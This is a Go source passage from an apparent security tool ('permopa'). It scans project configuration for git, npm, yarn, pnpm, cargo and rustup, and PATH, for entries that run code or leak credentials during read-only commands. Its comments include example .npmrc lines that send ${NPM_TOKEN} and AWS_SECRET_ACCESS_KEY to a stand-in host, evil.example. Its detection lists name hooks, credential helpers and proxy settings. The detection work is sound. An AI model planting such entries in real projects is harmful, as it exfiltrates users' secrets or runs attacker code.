package paths

import (
	"bytes"
	"encoding/json"
	"errors"
	"io"
	"os"
	"path"
	"regexp"
	"slices"
	"strings"
	"sync"
	"syscall"
)

// Project configuration that makes a read-only program run code, write or
// read files (docs/shell.md, "What a program reads besides its argv"). A
// project can arrive with a .git directory, rc files and pages of its own
// (a tarball, a shared volume, a devcontainer): git status runs the
// repository's core.fsmonitor and post-index-change hook, git diff its
// diff.external and textconv drivers, yarn the yarnPath of .yarnrc.yml,
// npm prints the file .npmrc's userconfig names. ConfigFindings reads what
// the program would read, bounded, and reports every entry that can do
// such things; the policy decides what a finding means.

// ConfigFinding is one entry of a configuration file that makes a program
// do more than read: File is the file (or hook) and Line its line (0 when
// the finding is the file itself), Key the entry, Reason why it matters.
type ConfigFinding struct {
	File   string
	Line   int
	Key    string
	Reason string
}

// Bounds of the work of one ConfigFindings call: a file larger than
// maxConfigBytes, includes nested deeper than maxIncludeDepth (git's own
// limit is 10), more than maxConfigFiles files or more than maxModuleDirs
// submodule repositories is a finding itself (not read-only), never a file
// skipped.
const (
	maxConfigBytes  = 256 << 10
	maxIncludeDepth = 10
	maxConfigFiles  = 64
	maxModuleDirs   = 256
)

// ConfigPrograms are the programs ConfigFindings knows the configuration
// of.
var ConfigPrograms = map[string]bool{"git": true, "yarn": true, "npm": true, "pnpm": true,
	"go": true, "cargo": true, "rustc": true, "info": true}

// ConfigFindings reports what program, started in the clean absolute
// directory dir, reads from its configuration that can run code, write
// or read other files. home is the home directory ("": the process's). A
// file that cannot be read or parsed is a finding: an input permopa does
// not model is never harmless.
func ConfigFindings(program, dir, home string) []ConfigFinding {
	return ConfigFindingsWith(nil, program, dir, home)
}

// ConfigFindingsWith is ConfigFindings asking the walk up to git's
// repository through probe (nil: the file system each time).
func ConfigFindingsWith(probe *DirProbe, program, dir, home string) []ConfigFinding {
	return ConfigFindingsCall(probe, program, dir, "", home)
}

// ConfigFindingsCall is ConfigFindingsWith for a call made in the clean
// absolute directory cwd ("": none), whose tree is the project too when
// PATH is looked at (`cd src && pip list` run where .venv/bin is). dir ""
// is a directory not known statically: only PATH is looked at. spellings
// are the same directories as the call wrote them, before links were
// resolved: PATH entries are compared as written (a project under a
// linked directory, /tmp on macOS, activates /tmp/p/.venv/bin).
func ConfigFindingsCall(probe *DirProbe, program, dir, cwd, home string, spellings ...string) []ConfigFinding {
	r := &configReader{home: normHome(home), probe: probe, cwd: cwd, spellings: spellings}
	r.pathProgram(program, dir)
	if dir == "" {
		return r.out
	}
	switch program {
	case "git":
		r.git(dir)
	case "yarn":
		r.packageManager(dir, "yarn")
		r.yarn(dir)
		r.npmrc(dir, "yarn") // Yarn 1 reads .npmrc too (registry, auth, proxy)
	case "npm":
		r.npmrc(dir, "npm")
	case "pnpm":
		r.packageManager(dir, "pnpm")
		r.npmrc(dir, "pnpm")
		r.pnpm(dir)
	case "go":
		r.goVCS(dir)
		r.goToolchain(dir)
	case "cargo":
		r.rustToolchain(dir)
		r.cargoConfig(dir)
	case "rustc":
		r.rustToolchain(dir)
	case "info":
		r.infoDir(dir)
	}
	return r.out
}

type configReader struct {
	cwd       string   // the call's directory, for PATH
	spellings []string // dir and cwd as written, for PATH
	home      string
	files     int
	out       []ConfigFinding
	probe     *DirProbe
}

func (r *configReader) add(file string, line int, key, reason string) {
	r.out = append(r.out, ConfigFinding{File: file, Line: line, Key: key, Reason: reason})
}

// read returns a file's contents, ok false when it does not exist (or is a
// directory). A file too large, unreadable, or past the file budget is a
// finding and ok false.
func (r *configReader) read(p string) ([]byte, bool) {
	fi, err := os.Stat(p)
	if err != nil {
		if errors.Is(err, os.ErrNotExist) {
			return nil, false
		}
		r.add(p, 0, "", "cannot be read: "+err.Error())
		return nil, false
	}
	if fi.IsDir() {
		return nil, false
	}
	r.files++
	if r.files > maxConfigFiles {
		r.add(p, 0, "", "more configuration files than permopa reads")
		return nil, false
	}
	data, err := readRegular(p, maxConfigBytes+1)
	if err != nil {
		r.add(p, 0, "", "cannot be read: "+err.Error())
		return nil, false
	}
	if len(data) > maxConfigBytes {
		r.add(p, 0, "", "is larger than permopa reads")
		return nil, false
	}
	return data, true
}

// ancestors lists dir and every parent up to /.
func ancestors(dir string) []string {
	var out []string
	for x := path.Clean(dir); ; x = path.Dir(x) {
		out = append(out, x)
		if x == "/" || x == "." {
			return out
		}
	}
}

// --- git ---

// gitRepo finds the repository git uses from dir, as UnsafeRepository
// does: gitDir holds HEAD (a .git directory, a gitfile's target, or a bare
// repository), commonDir its shared part (commondir file of a linked work
// tree), top the work tree ("" for a bare repository).
func gitRepo(dir string, probe *DirProbe) (gitDir, commonDir, top string, ok bool) {
	for _, x := range ancestors(dir) {
		switch e := probe.dotGit(x); {
		case e.file && e.target != "":
			target := e.target
			if !strings.HasPrefix(target, "/") {
				target = x + "/" + target
			}
			gitDir, top = path.Clean(target), x
		case e.dir && probe.Shape(path.Join(x, ".git"), false) == GitRepository:
			gitDir, top = path.Join(x, ".git"), x
		}
		if gitDir == "" && probe.Shape(x, false) == GitRepository {
			gitDir = x
		}
		if gitDir != "" {
			commonDir = gitDir
			if b, err := readRegular(path.Join(gitDir, "commondir"), 4096); err == nil {
				c := strings.TrimSpace(string(b))
				if !strings.HasPrefix(c, "/") {
					c = path.Join(gitDir, c)
				}
				commonDir = path.Clean(c)
			}
			return gitDir, commonDir, top, true
		}
	}
	return "", "", "", false
}

// gitReadHooks are the hooks git runs on commands permopa calls read-only:
// git status refreshes the index and writes it, which runs
// post-index-change (observed under strace); the others run when a
// command updates a reference or packs objects on its own.
var gitReadHooks = []string{"post-index-change", "reference-transaction", "pre-auto-gc"}

func (r *configReader) git(dir string) {
	seen := 0
	r.gitRepoAt(dir, 0, &seen)
}

// gitRepoAt reads the repository git finds from dir, and those of its
// populated submodules (depth: how deeply nested).
func (r *configReader) gitRepoAt(dir string, depth int, seen *int) {
	gitDir, commonDir, top, ok := gitRepo(dir, r.probe)
	if !ok || depth > 0 && top != dir {
		return // a submodule directory whose .git git cannot use
	}
	hookDirs := []string{path.Join(commonDir, "hooks")}
	var configs []string
	configs = append(configs, path.Join(commonDir, "config"), path.Join(commonDir, "config.worktree"))
	if gitDir != commonDir {
		configs = append(configs, path.Join(gitDir, "config.worktree"))
	}
	base := top
	if base == "" {
		base = gitDir
	}
	for _, c := range configs {
		for _, hp := range r.gitConfigFile(c, 0) {
			hookDirs = append(hookDirs, r.expand(hp, base))
		}
	}
	// The user's own configuration is trusted, but a relative
	// core.hooksPath there names a directory of the project.
	for _, c := range r.userGitConfigs() {
		if data, err := readRegular(c, maxConfigBytes); err == nil {
			if es, err := ParseGitConfig(data); err == nil {
				for _, e := range es {
					if e.Section == "core" && e.Subsection == "" && e.Name == "hookspath" && e.Value != "" {
						hookDirs = append(hookDirs, r.expand(e.Value, base))
					}
				}
			}
		}
	}
	for _, h := range hookDirs {
		r.gitHooks(h)
	}
	if _, err := os.Stat(path.Join(commonDir, "objects/info/alternates")); err == nil {
		r.add(path.Join(commonDir, "objects/info/alternates"), 0, "",
			"makes git read objects from another repository")
	}
	r.gitModules(path.Join(commonDir, "modules"))
	if top != "" {
		r.gitWorkTreeSubmodules(gitDir, top, depth, seen)
	}
}

// userGitConfigs are the user's global configuration files.
func (r *configReader) userGitConfigs() []string {
	var out []string
	if r.home != "" {
		out = append(out, path.Join(r.home, ".gitconfig"))
	}
	if x := os.Getenv("XDG_CONFIG_HOME"); strings.HasPrefix(x, "/") {
		out = append(out, path.Join(x, "git/config"))
	} else if r.home != "" {
		out = append(out, path.Join(r.home, ".config/git/config"))
	}
	return out
}

// readRegular reads at most limit bytes of the regular file p. It opens
// without blocking and checks the file it opened: a FIFO or device swapped
// in after a stat never stalls the decision.
// errNotRegular is readRegular's (and readGitIndexFacts') refusal of a
// FIFO, device or directory: opening one would block or read without end.
var errNotRegular = errors.New("not a regular file")

func readRegular(p string, limit int64) ([]byte, error) {
	f, err := os.OpenFile(p, os.O_RDONLY|syscall.O_NONBLOCK, 0)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	fi, err := f.Stat()
	if err != nil {
		return nil, err
	}
	if !fi.Mode().IsRegular() {
		return nil, errNotRegular
	}
	return io.ReadAll(io.LimitReader(f, limit))
}

// expand resolves a path from a git configuration: ~/ against the home
// directory, a relative one against base.
func (r *configReader) expand(p, base string) string {
	if strings.HasPrefix(p, "~/") && r.home != "" {
		return path.Join(r.home, p[2:])
	}
	if !strings.HasPrefix(p, "/") {
		return path.Join(base, p)
	}
	return path.Clean(p)
}

func (r *configReader) gitHooks(dir string) {
	for _, h := range gitReadHooks {
		p := path.Join(dir, h)
		if fi, err := os.Stat(p); err == nil && !fi.IsDir() {
			r.add(p, 0, "hook "+h, "git runs this hook on commands that only read (git status runs post-index-change)")
		}
	}
}

// gitModules reads the repositories of submodules (git status looks into
// them, with their own configuration and hooks).
func (r *configReader) gitModules(dir string) {
	seen := 0
	var walk func(d string, depth int)
	walk = func(d string, depth int) {
		// At most maxModuleDirs+1 entries are read: a directory of a
		// million files costs no more than one of 257.
		f, err := os.OpenFile(d, os.O_RDONLY|syscall.O_NONBLOCK, 0)
		if err != nil {
			return
		}
		ents, _ := f.ReadDir(maxModuleDirs + 1)
		f.Close()
		if len(ents) > maxModuleDirs && seen <= maxModuleDirs {
			seen = maxModuleDirs + 1
			r.add(dir, 0, "", "more submodule repositories than permopa reads")
			return
		}
		for _, e := range ents {
			if !e.IsDir() {
				continue
			}
			seen++
			if seen > maxModuleDirs {
				if seen == maxModuleDirs+1 {
					r.add(dir, 0, "", "more submodule repositories than permopa reads")
				}
				return
			}
			sub := path.Join(d, e.Name())
			if r.probe.Shape(sub, false) == GitRepository {
				for _, hp := range r.gitConfigFile(path.Join(sub, "config"), 0) {
					r.gitHooks(r.expand(hp, sub))
				}
				r.gitHooks(path.Join(sub, "hooks"))
				walk(path.Join(sub, "modules"), depth+1)
			} else if depth < 4 {
				// Submodule names may hold slashes.
				walk(sub, depth+1)
			}
		}
	}
	walk(dir, 0)
}

// gitConfigFile reports the entries of one configuration file (and the
// files it includes) that run programs or change what git reads, and
// returns the core.hooksPath values it sets.
func (r *configReader) gitConfigFile(p string, depth int) (hooksPaths []string) {
	data, ok := r.read(p)
	if !ok {
		return nil
	}
	entries, err := ParseGitConfig(data)
	if err != nil {
		r.add(p, 0, "", "cannot be parsed ("+err.Error()+")")
		return nil
	}
	for _, e := range entries {
		if e.Section == "core" && e.Subsection == "" && e.Name == "hookspath" {
			hooksPaths = append(hooksPaths, e.Value)
			continue
		}
		if (e.Section == "include" && e.Subsection == "" || e.Section == "includeif") && e.Name == "path" {
			if depth+1 > maxIncludeDepth {
				r.add(p, e.Line, e.Key(), "includes nested deeper than permopa reads")
				continue
			}
			inc := e.Value
			if strings.HasPrefix(inc, "~/") {
				if r.home == "" {
					r.add(p, e.Line, e.Key(), "includes a file in the home directory, which is not known")
					continue
				}
				inc = path.Join(r.home, inc[2:])
			} else if !strings.HasPrefix(inc, "/") {
				inc = path.Join(path.Dir(p), inc)
			}
			hooksPaths = append(hooksPaths, r.gitConfigFile(path.Clean(inc), depth+1)...)
			continue
		}
		if reason := GitCodeKey(e); reason != "" {
			r.add(p, e.Line, e.Key(), reason)
		}
	}
	return hooksPaths
}

// gitLFSFilter are the filter commands "git lfs install" writes: the
// user's own git-lfs with fixed arguments.
var gitLFSFilter = map[string]bool{
	"git-lfs filter-process": true, "git-lfs clean -- %f": true, "git-lfs smudge -- %f": true,
	"git-lfs smudge --skip -- %f": true, "git-lfs filter-process --skip": true,
}

var gitBool = map[string]bool{"": true, "true": true, "false": true, "yes": true, "no": true, "on": true, "off": true, "0": true, "1": true}

// GitCodeKey says why a repository configuration entry makes a git command
// that only reads run a program, write a file or read outside the
// repository ("" when it does not). Driver keys count whatever the
// attributes say: a .gitattributes line selects them, and the project
// writes both.
func GitCodeKey(e GitConfigEntry) string {
	name, sub := e.Name, e.Subsection != ""
	// The ext:: transport runs its URL as a command (git ls-remote, git
	// remote show are network reads); git refuses it unless a
	// protocol.allow or protocol.ext.allow says always.
	if strings.Contains(strings.ToLower(e.Value), "ext::") || strings.Contains(strings.ToLower(e.Subsection), "ext::") {
		return "names a URL whose ext:: transport runs a command"
	}
	switch e.Section {
	case "protocol":
		if name == "allow" && strings.ToLower(strings.TrimSpace(e.Value)) != "never" {
			return "allows transports (ext::, fd::) that run commands"
		}
	case "core":
		switch name {
		case "fsmonitor":
			if e.Bare || gitBool[strings.ToLower(e.Value)] {
				return "" // git's own daemon, or off
			}
			return "git status runs this program"
		case "pager", "editor", "askpass", "sshcommand", "gitproxy", "alternaterefscommand":
			return "names a program git runs"
		case "worktree":
			return "points git at another work tree, whose files git diff and git grep print"
		}
	case "pager":
		return "names a pager program git runs"
	case "diff":
		if name == "external" || sub && (name == "textconv" || name == "command") {
			return "names a program git diff, log -p, show and blame run"
		}
	case "filter":
		if sub && (name == "clean" || name == "smudge" || name == "process") && !gitLFSFilter[strings.Join(strings.Fields(e.Value), " ")] {
			return "names a filter program git status and git diff run"
		}
	case "lfs":
		// git-lfs runs custom transfer agents named in the repository
		// configuration (.lfsconfig cannot name them).
		if name == "path" || name == "standalonetransferagent" {
			return "names a program git-lfs runs"
		}
	case "merge":
		if sub && name == "driver" {
			return "names a merge driver program"
		}
	case "difftool", "mergetool", "browser", "man":
		if name == "cmd" || name == "path" || name == "viewer" {
			return "names a program git runs"
		}
	case "gpg":
		if name == "program" || name == "defaultkeycommand" {
			return "names a program git log --show-signature runs"
		}
	case "http":
		// git ls-remote and git remote show are network reads: a proxy
		// or an unverified TLS connection the project names carries the
		// user's own credentials (the credential helper answers for the
		// remote's host); cookie files are read and written anywhere.
		switch name {
		case "proxy", "sslverify", "sslcainfo", "sslcapath", "sslcert", "sslkey", "sslbackend", "sslcipherlist",
			"proxysslcert", "proxysslkey", "proxysslcainfo", "curloptresolve", "pinnedpubkey":
			return "routes or unverifies the connection that carries the user's credentials"
		case "cookiefile", "savecookies":
			return "makes git read and write a cookie file elsewhere"
		}
	case "credential":
		if name == "helper" {
			return "names a credential helper program"
		}
	case "interactive":
		if name == "difffilter" {
			return "names a program git runs"
		}
	case "sequence", "web", "help":
		if name == "editor" || name == "browser" {
			return "names a program git runs"
		}
	case "uploadpack":
		if name == "packobjectshook" {
			return "names a program git runs"
		}
	case "remote":
		if name == "uploadpack" || name == "receivepack" || name == "proxy" {
			return "names a program git runs"
		}
		// git ls-remote runs the remote helper git-remote-VCS, a path
		// relative to the cwd when VCS holds a slash.
		if name == "vcs" {
			return "names a remote helper program git ls-remote runs"
		}
	case "tar":
		// git archive --format=NAME (or -o x.NAME) pipes its tar
		// through tar.NAME.command.
		if sub && name == "command" {
			return "names a program git archive runs"
		}
	case "submodule":
		if name == "update" && strings.HasPrefix(strings.TrimSpace(e.Value), "!") {
			return "names a command git submodule update runs"
		}
	case "trace2":
		if strings.HasSuffix(name, "target") {
			return "makes git write a trace to a file"
		}
	}
	return ""
}

// --- yarn, npm, pnpm ---

var (
	yarnPathWord = sync.OnceValue(func() *regexp.Regexp { return regexp.MustCompile(`(?i)yarn-?path|plugins`) })
	// Yarn 2+'s httpProxy, httpsProxy, enableStrictSsl, caFilePath,
	// httpsCaFilePath, httpsCertFilePath, httpsKeyFilePath and
	// networkSettings (which holds them per host); Yarn 1's proxy,
	// https-proxy, strict-ssl, cafile, ca.
	yarnNetWord = sync.OnceValue(func() *regexp.Regexp {
		return regexp.MustCompile(`(?i)proxy|strict-?ssl|ca-?file|\bca\b|cert-?file|key-?file|network-?settings`)
	})
	pnpmWord = sync.OnceValue(func() *regexp.Regexp {
		return regexp.MustCompile(`(?i)pnpm-?file|script-?shell|node-?options|npm-?path|config-?dependencies|user-?config|global-?config`)
	})
)

// yarn reads .yarnrc.yml (Yarn 2+: yarnPath starts another yarn, plugins
// load code) and .yarnrc (Yarn 1: yarn-path) from dir up to /, as yarn
// does. The files are scanned as text for the keys: a YAML spelling that
// hides a key from a scanner (escapes in a quoted key) is refused too.
func (r *configReader) yarn(dir string) {
	for _, x := range ancestors(dir) {
		if x == r.home {
			continue // the user's own configuration
		}
		for _, name := range []string{".yarnrc.yml", ".yarnrc.yaml", ".yarnrc"} {
			p := path.Join(x, name)
			data, ok := r.read(p)
			if !ok {
				continue
			}
			for i, line := range strings.Split(string(data), "\n") {
				if m := yarnPathWord().FindString(line); m != "" {
					r.add(p, i+1, m, "makes yarn run code from the project (another yarn, or plugins)")
				} else if m := yarnNetWord().FindString(line); m != "" {
					r.add(p, i+1, m, "routes or unverifies the connection that carries the user's registry credentials")
				} else if strings.Contains(line, "${") {
					r.add(p, i+1, "", npmrcEnvReason)
				} else if strings.Contains(line, `\`) && strings.Contains(line, `"`) {
					r.add(p, i+1, "", "a quoted escape may spell a key permopa looks for")
				}
			}
		}
	}
}

// npmrc reads .npmrc from dir up to / (npm reads the project's, the
// user's and the global one), but for the home directory's, which is the
// user's own (as ~/.gitconfig is; yarn's files alike). Keys that name files or programs are
// findings: userconfig/globalconfig make npm read (and print, as unknown
// keys) any file, logs-dir and cache make it write elsewhere, the others
// name programs or modules some npm or pnpm versions run.
func (r *configReader) npmrc(dir, program string) {
	for _, x := range ancestors(dir) {
		if x == r.home {
			continue // ~/.npmrc is the user's own configuration
		}
		p := path.Join(x, ".npmrc")
		data, ok := r.read(p)
		if !ok {
			continue
		}
		for i, line := range strings.Split(string(data), "\n") {
			line = strings.TrimSpace(line)
			if line == "" || line[0] == '#' || line[0] == ';' || line[0] == '[' {
				continue
			}
			key, _, _ := strings.Cut(line, "=")
			key = strings.TrimSuffix(strings.TrimSpace(key), "[]")
			norm := strings.ReplaceAll(strings.ToLower(strings.Trim(key, `"'`)), "_", "-")
			if reason := npmrcKey(norm); reason != "" {
				r.add(p, i+1, key, reason)
			} else if strings.Contains(line, "${") && !npmDefaultRegistryKey(norm) {
				r.add(p, i+1, key, npmrcEnvReason)
			}
		}
	}
}

// npmrcEnvReason: npm (and yarn) replace ${NAME} in any rc value with
// the environment's NAME, and send auth values, the user agent and
// headers with their requests: a project file that names its own registry
// (`//evil.example/:_authToken=${NPM_TOKEN}`, `@x:registry=` plus a
// `user-agent=${AWS_SECRET_ACCESS_KEY}`) ships the variable to that host.
const npmrcEnvReason = "expands an environment variable, which the package manager may send to a registry the project names"

// npmDefaultRegistryKey is a key scoped to the public registries by its
// nerf dart (`//registry.npmjs.org/:_authToken`): npm sends its value to
// that host only, so `${NPM_TOKEN}` there, the common CI setup, reaches
// no one else.
func npmDefaultRegistryKey(k string) bool {
	return strings.HasPrefix(k, "//registry.npmjs.org/:") || strings.HasPrefix(k, "//registry.yarnpkg.com/:")
}

func npmrcKey(k string) string {
	switch k {
	case "proxy", "https-proxy", "http-proxy", "strict-ssl", "ca", "cert", "key", "local-address":
		return "routes or unverifies the connection that carries the user's registry credentials"
	case "userconfig", "globalconfig":
		return "makes " + "npm read another file as configuration (and print its lines)"
	case "logs-dir", "cache", "cache-dir", "store-dir", "prefix", "global-dir", "global-bin-dir", "state-dir", "cafile":
		return "makes the package manager read or write files elsewhere"
	case "script-shell", "node-options", "onload-script", "init-module", "git", "shell", "editor", "browser",
		"viewer", "pnpmfile", "global-pnpmfile", "npm-path", "node-linker-hooks":
		return "names a program or module the package manager may run"
	}
	return ""
}

// pnpm also loads .pnpmfile.cjs and reads settings from
// pnpm-workspace.yaml (pnpm 10).
func (r *configReader) pnpm(dir string) {
	for _, x := range ancestors(dir) {
		for _, name := range []string{".pnpmfile.cjs", ".pnpmfile.mjs", "pnpmfile.js"} {
			p := path.Join(x, name)
			if _, err := os.Stat(p); err == nil {
				r.add(p, 0, "", "pnpm loads this file as code")
			}
		}
		p := path.Join(x, "pnpm-workspace.yaml")
		data, ok := r.read(p)
		if !ok {
			continue
		}
		for i, line := range strings.Split(string(data), "\n") {
			if m := pnpmWord().FindString(line); m != "" {
				r.add(p, i+1, m, "names a program, module or file pnpm runs or reads")
			} else if strings.Contains(line, `\`) && strings.Contains(line, `"`) {
				r.add(p, i+1, "", "a quoted escape may spell a key permopa looks for")
			}
		}
	}
}

// packageManagerValue is a version from the registry: name@semver with an
// optional +hash.
var packageManagerValue = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`^(npm|yarn|pnpm|bun)@[0-9][0-9A-Za-z.-]*(\+[0-9A-Za-z.]+)?$`)
})

// packageManager reads the packageManager field of the package.json files
// from dir up: corepack (the yarn and pnpm shims) downloads and runs the
// version it names, from a URL when it names one; pnpm 9.7+ switches to
// the pnpm version it names by itself.
func (r *configReader) packageManager(dir, program string) {
	for _, x := range ancestors(dir) {
		p := path.Join(x, "package.json")
		data, ok := r.read(p)
		if !ok {
			continue
		}
		var pj struct {
			PackageManager json.RawMessage `json:"packageManager"`
		}
		if err := json.Unmarshal(data, &pj); err != nil {
			r.add(p, 0, "", "cannot be parsed as JSON")
			continue
		}
		if len(pj.PackageManager) == 0 {
			continue
		}
		var v string
		if err := json.Unmarshal(pj.PackageManager, &v); err != nil {
			r.add(p, lineOf(data, "packageManager"), "packageManager", "is not a string")
			continue
		}
		switch {
		case !packageManagerValue().MatchString(v):
			r.add(p, lineOf(data, "packageManager"), "packageManager", "names a package manager from a URL or a path, which "+program+" may download and run")
		case program == "pnpm" && strings.HasPrefix(v, "pnpm@"):
			r.add(p, lineOf(data, "packageManager"), "packageManager", "pnpm switches to the version it names, downloaded from the configured registry")
		}
		return // the nearest package.json with the field decides
	}
}

func lineOf(data []byte, word string) int {
	i := bytes.Index(data, []byte(word))
	if i < 0 {
		return 0
	}
	return bytes.Count(data[:i], []byte("\n")) + 1
}

// --- rustup, cargo ---

// rustToolchain reads the toolchain file rustup's proxies (cargo, rustc,
// installed by rustup as links to itself) take from the nearest directory
// up from dir that has one: rust-toolchain.toml, or the older
// rust-toolchain. A toolchain given by path runs that directory's
// programs (`path = "./tc"` made `cargo --version` run the project's
// tc/bin/cargo); a channel rustup has not installed, or components and
// targets, make it download and install them. A distribution's cargo
// ignores the file; permopa cannot tell which one runs, so it reads it.
func (r *configReader) rustToolchain(dir string) {
	for _, x := range ancestors(dir) {
		if x == r.home {
			return // the user's own override
		}
		found := false // rustup warns when both are there, and takes one
		for _, name := range []string{"rust-toolchain", "rust-toolchain.toml"} {
			p := path.Join(x, name)
			data, ok := r.read(p)
			if !ok {
				continue
			}
			found = true
			text := strings.TrimSpace(string(data))
			if name == "rust-toolchain" && !strings.Contains(text, "[") {
				// The older form: one toolchain name.
				r.rustChannel(p, 1, text)
				continue
			}
			for i, line := range strings.Split(string(data), "\n") {
				key, value, found := strings.Cut(line, "=")
				key = strings.Trim(strings.TrimSpace(key), `"'`)
				switch {
				case !found:
					if t := strings.TrimSpace(line); t != "" && t[0] != '#' && t != "[toolchain]" {
						r.add(p, i+1, "", "is not a line rustup's toolchain file holds")
					}
				case key == "channel":
					r.rustChannel(p, i+1, strings.Trim(strings.TrimSpace(value), `"'`))
				case key == "profile":
				default:
					r.add(p, i+1, key, rustToolchainKeyReason(key))
				}
			}
		}
		if found {
			return
		}
	}
}

func rustToolchainKeyReason(key string) string {
	switch key {
	case "path":
		return "names a toolchain directory whose programs rustup runs"
	case "components", "targets":
		return "makes rustup download and install what is missing"
	}
	return "is a key permopa does not model"
}

// rustChannel reports a channel rustup would download and install, or
// one that is a path.
func (r *configReader) rustChannel(p string, line int, channel string) {
	if channel == "" || strings.ContainsAny(channel, "/\\") || strings.HasPrefix(channel, ".") {
		r.add(p, line, channel, "names a toolchain directory whose programs rustup runs")
		return
	}
	home := os.Getenv("RUSTUP_HOME")
	if home == "" {
		home = path.Join(r.home, ".rustup")
	}
	entries, _ := os.ReadDir(path.Join(home, "toolchains"))
	for _, e := range entries {
		if n := e.Name(); n == channel || strings.HasPrefix(n, channel+"-") {
			return
		}
	}
	r.add(p, line, channel, "names a toolchain rustup has not installed, which it downloads and installs")
}

// cargoKeyWord are the keys of cargo's configuration that run programs
// (credential providers run on a registry that asks for a token: a
// planted provider ran under `cargo search`), send the user's tokens or
// connections elsewhere (registries, source replacement, proxy and TLS
// settings), or read more files (include).
var cargoKeyWord = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`(?i)credential|token|registr|replace-with|index|proxy|cainfo|ssl|check-revoke|git-fetch-with-cli|include|\[source|\[alias|\[net|\[http`)
})

// cargoConfig reads .cargo/config.toml and .cargo/config from dir up to
// /, as cargo does, but for the home directory's, which is the user's own
// ($CARGO_HOME). The files are scanned as text for the keys of
// cargoKeyWord; a quoted escape on a line counts too.
func (r *configReader) cargoConfig(dir string) {
	for _, x := range ancestors(dir) {
		if x == r.home {
			continue
		}
		for _, name := range []string{".cargo/config.toml", ".cargo/config"} {
			p := path.Join(x, name)
			data, ok := r.read(p)
			if !ok {
				continue
			}
			for i, line := range strings.Split(string(data), "\n") {
				if m := cargoKeyWord().FindString(line); m != "" {
					r.add(p, i+1, m, "makes cargo run a program, send the user's tokens or connections elsewhere, or read other files")
				} else if strings.Contains(line, `\`) && strings.Contains(line, `"`) {
					r.add(p, i+1, "", "a quoted escape may spell a key permopa looks for")
				}
			}
		}
	}
}

// --- PATH ---

// pathEnv is the PATH programs are looked up on: the deciding process's,
// which for a hook is the host's.
var pathEnv = func() string { return os.Getenv("PATH") }

// pathProgram reports the file PATH finds for program (a name without a
// slash) when the project chose it: PATH finds it in a directory inside
// dir or the work tree of dir's repository (an activated virtual
// environment's .venv/bin, a ./bin: `pip --version` ran the project's
// .pth files), or PATH has a relative or empty entry (dir "": not known
// statically, so any relative entry). A version manager's shim found
// first (a pyenv, rbenv, nodenv, goenv, jenv, asdf or mise shims
// directory, volta's bin, a link to rustup in cargo's bin) is read as its
// manager reads the project (shims.go). Only entries that can be inside
// the project or are shims directories, named so, are probed (the others
// only when a shims directory holds the program): a PATH of system and
// home directories costs no system call.
func (r *configReader) pathProgram(program, dir string) {
	entries := strings.Split(pathEnv(), ":")
	inside := make([]bool, len(entries))
	shim := make([]string, len(entries)) // a version manager's shims directory, by name
	var zone []string
	any, anyShim := false, false
	for i, e := range entries {
		if e == "" || !strings.HasPrefix(e, "/") {
			if dir == "" {
				r.add("PATH", 0, "", "has the relative entry \""+e+"\": which "+program+" runs depends on the directory, not known statically")
				return
			}
			inside[i], any = true, true
			continue
		}
		if shim[i] = shimManager(path.Clean(e), program); shim[i] != "" {
			anyShim = true
		}
		if r.nearZone(path.Clean(e), dir) {
			if zone == nil {
				zone = r.projectZone(dir)
			}
			for _, z := range zone {
				if Within(path.Clean(e), z) {
					inside[i], any = true, true
				}
			}
		}
	}
	if !any && !anyShim {
		return
	}
	type hit struct {
		done, found bool
		err         error
	}
	hits := make([]hit, len(entries))
	file := func(i int) string {
		if !strings.HasPrefix(entries[i], "/") {
			return path.Join(dir, entries[i], program)
		}
		return path.Join(entries[i], program)
	}
	holds := func(i int) (bool, error) {
		for j := range i {
			if entries[j] == entries[i] && hits[j].done {
				hits[i] = hits[j] // PATH names a directory twice
			}
		}
		if !hits[i].done {
			fi, err := os.Stat(file(i))
			hits[i] = hit{done: true, found: err == nil && fi.Mode().IsRegular() && fi.Mode()&0o111 != 0}
			if err != nil && !errors.Is(err, os.ErrNotExist) && !errors.Is(err, syscall.ENOTDIR) {
				hits[i].err = err
			}
		}
		return hits[i].found, hits[i].err
	}
	if !any {
		// Only shims directories: the entries before one are looked at
		// only when it holds the program (docs/shell.md).
		held := false
		for i := range entries {
			if shim[i] != "" {
				if ok, err := holds(i); ok || err != nil {
					held = true
					break
				}
			}
		}
		if !held {
			return
		}
	}
	for i, e := range entries {
		f := file(i)
		found, err := holds(i)
		switch {
		case found && inside[i]:
			r.add(f, 0, "", "PATH finds this "+program+" first, inside the project (PATH entry \""+e+"\"): the project chose the program")
			return
		case found && shim[i] != "":
			r.shim(shim[i], f, program, dir)
			// A version "system" runs the next program PATH finds.
			for j := i + 1; j < len(entries) && shim[i] != "rustup" && shim[i] != "volta"; j++ {
				if !inside[j] {
					continue
				}
				if ok, err := holds(j); ok || err != nil {
					r.add(file(j), 0, "", "with the version \"system\", "+shim[i]+"'s shim runs this "+program+", inside the project (PATH entry \""+entries[j]+"\")")
					break
				}
			}
			return
		case found:
			return
		case err != nil && (inside[i] || shim[i] != ""):
			r.add(f, 0, "", "cannot be looked up ("+err.Error()+"): PATH may find "+program+" inside the project or a version manager's shim")
			return
		}
	}
}

// projectZone is dir, the call's directory and the work trees of their
// repositories, unless one is the home directory or above it (a
// repository of the home's dotfiles).
func (r *configReader) projectZone(dir string) []string {
	var zone []string
	for _, d := range append([]string{dir, r.cwd}, r.spellings...) {
		if d != "" && !slices.Contains(zone, d) {
			zone = append(zone, d)
		}
	}
	for _, d := range zone {
		if _, _, top, ok := gitRepo(d, r.probe); ok && top != "" && top != d && !Within(r.home, top) {
			zone = append(zone, top)
		}
	}
	return zone
}

// sharesAncestor says whether a and b have a common ancestor other than /.
func sharesAncestor(a, b string) bool {
	i := strings.IndexByte(a[1:], '/')
	first := a
	if i >= 0 {
		first = a[:i+1]
	}
	return first != "/" && Within(b, first)
}

// nearZone says whether the PATH entry e can be inside the project of a
// leaf started in dir: whether it shares an ancestor but / with dir, the
// call's directory or one of their spellings (no system call).
func (r *configReader) nearZone(e, dir string) bool {
	for _, d := range append([]string{dir, r.cwd}, r.spellings...) {
		if d != "" && sharesAncestor(e, d) {
			return true
		}
	}
	return false
}

// --- go ---

// goVCSMarkers are the version-control directories and files go looks for
// from the package directory up, to stamp what it builds with the
// revision (go list runs git status --porcelain for a main package:
// observed under strace). Git's configuration is read as for git; any
// other system's is not modelled (Mercurial's .hg/hgrc loads extensions
// and runs hooks).
